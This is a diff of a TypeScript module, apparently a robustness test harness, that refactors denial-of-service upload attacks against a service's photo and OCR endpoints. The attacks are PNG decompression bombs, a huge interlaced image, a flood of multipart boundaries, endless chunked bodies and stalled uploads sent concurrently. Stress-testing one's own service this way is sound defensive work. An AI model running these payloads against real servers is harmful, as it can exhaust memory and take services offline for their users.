@@ -1,15 +1,7 @@
 import { request } from 'node:http';
 import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
-
-/** What one user sends at a time, again and again for as long as the attack lasts. */
-export interface Attack {
-  readonly name: string;
-  /** Sendings at once. */
-  readonly atOnce: number;
-  /** Resolves when the server has answered and the connection is over; never throws. */
-  send(url: string, cookie: string): Promise<void>;
-}
+import { type Attack, postForm } from './attack.ts';
 
 const BORDER = 'b';
 const HEAD = `--${BORDER}\r\nContent-Disposition: form-data; name="imagem"; filename="f.jpg"\r\n\r\n`;
@@ -22,16 +14,20 @@ function postChunks(
   cookie: string,
   chunks: Iterable<Buffer>,
   { ends }: { ends: boolean },
-): Promise<void> {
+): Promise<number> {
   return new Promise((resolve) => {
+    let status = 0;
     const type = `multipart/form-data; boundary=${BORDER}`;
     const call = request(url + path, {
       method: 'POST',
       agent: false,
       headers: { cookie, 'content-type': type, 'transfer-encoding': 'chunked' },
     });
-    call.on('response', (answer) => answer.resume());
-    call.on('error', () => resolve()).on('close', () => resolve());
+    call.on('response', (answer) => {
+      status = answer.statusCode ?? 0;
+      answer.resume();
+    });
+    call.on('error', () => resolve(status)).on('close', () => resolve(status));
     const iterator = chunks[Symbol.iterator]();
     const next = (): void => {
       if (call.destroyed) return;
@@ -43,17 +39,12 @@ function postChunks(
   });
 }
 
-async function postPhoto(url: string, cookie: string, photo: Buffer): Promise<void> {
+function postPhoto(url: string, cookie: string, photo: Buffer): Promise<number> {
   const form = new FormData();
   form.append('pasta', 'checkin-combustivel');
   form.append('placa', 'RWB5K21');
   form.append('foto', new Blob([new Uint8Array(photo)]), 'f.png');
-  const answer = await fetch(`${url}/api/fotos`, {
-    method: 'POST',
-    headers: { cookie },
-    body: form,
-  }).catch(() => undefined);
-  await answer?.arrayBuffer();
+  return postForm(`${url}/api/fotos`, cookie, form);
 }
 
 /** A black PNG of any size; what it unpacks to is a thousand times as much. */
@@ -82,58 +73,39 @@ function* repeat(first: Buffer, chunk: Buffer, times: number): Generator<Buffer>
   for (let i = 0; i < times; i++) yield chunk;
 }
 
-/** Uploads that unpack, go on after their refusal, or stall. */
-export async function uploadAttacks(): Promise<Attack[]> {
-  const column = blackPng(1, 40_000_000);
-  const row = blackPng(40_000_000, 1);
-  const largest = await sharp({
-    create: { width: 8000, height: 5000, channels: 4, background: '#0a14' },
-  })
-    .png({ compressionLevel: 1, progressive: true })
-    .toBuffer();
-  const zeros = Buffer.alloc(64 * 1024);
-  const borders = Buffer.from(`--${BORDER}\r\n`.repeat(13_000));
-  return [
-    {
-      name: 'PNG of 1 × 40,000,000, four at once',
-      atOnce: 4,
-      send: (url, cookie) => postPhoto(url, cookie, column),
-    },
-    {
-      name: 'PNG of 40,000,000 × 1, four at once',
-      atOnce: 4,
-      send: (url, cookie) => postPhoto(url, cookie, row),
-    },
-    {
-      name: 'largest PNG allowed (40 MP, interlaced), eight at once',
-      atOnce: 8,
-      send: (url, cookie) => postPhoto(url, cookie, largest),
-    },
-    {
-      name: '74 MB of part borders',
-      atOnce: 2,
-      send: (url, cookie) =>
-        postChunks(url, '/api/ocr', cookie, repeat(borders, borders, 1_000), { ends: true }),
-    },
-    {
-      name: 'file without end, chunked',
-      atOnce: 2,
-      send: (url, cookie) =>
-        postChunks(url, '/api/ocr', cookie, repeat(Buffer.from(HEAD), zeros, 1e9), { ends: false }),
-    },
-    {
-      name: 'uploads of 7 MB that stall, twenty at once',
-      atOnce: 20,
-      send: (url, cookie) =>
-        postChunks(
-          url,
-          '/api/ocr',
-          cookie,
-          repeat(Buffer.from(HEAD), zeros, (7 * MB) / zeros.length),
-          {
-            ends: false,
-          },
-        ),
-    },
-  ];
+function photos(name: string, atOnce: number, photo: Buffer): Attack {
+  return { name, atOnce, send: (url, cookie) => postPhoto(url, cookie, photo) };
 }
+
+function chunked(
+  name: string,
+  atOnce: number,
+  body: { first: Buffer; chunk: Buffer; times: number; ends: boolean },
+): Attack {
+  const { first, chunk, times, ends } = body;
+  const send: Attack['send'] = (url, cookie) =>
+    postChunks(url, '/api/ocr', cookie, repeat(first, chunk, times), { ends });
+  return { name, atOnce, send };
+}
+
+const ZEROS = Buffer.alloc(64 * 1024);
+const BORDERS = Buffer.from(`--${BORDER}\r\n`.repeat(13_000));
+const FILE = { first: Buffer.from(HEAD), chunk: ZEROS, ends: false };
+
+/** Uploads that unpack, go on after their refusal, or stall. */
+export const UPLOADS: readonly (() => Attack | Promise<Attack>)[] = [
+  () => photos('PNG of 1 × 40,000,000', 4, blackPng(1, 40_000_000)),
+  () => photos('PNG of 40,000,000 × 1', 4, blackPng(40_000_000, 1)),
+  async () => {
+    const create = { width: 8000, height: 5000, channels: 4, background: '#0a14' } as const;
+    const png = sharp({ create }).png({ compressionLevel: 1, progressive: true });
+    return photos('largest PNG allowed (40 MP, interlaced)', 8, await png.toBuffer());
+  },
+  () =>
+    chunked('74 MB of part borders', 2, {
+      ...{ first: BORDERS, chunk: BORDERS, times: 1_000 },
+      ends: true,
+    }),
+  () => chunked('file without end, chunked', 2, { ...FILE, times: 1e9 }),
+  () => chunked('uploads of 7 MB that stall', 20, { ...FILE, times: (7 * MB) / ZEROS.length }),
+];
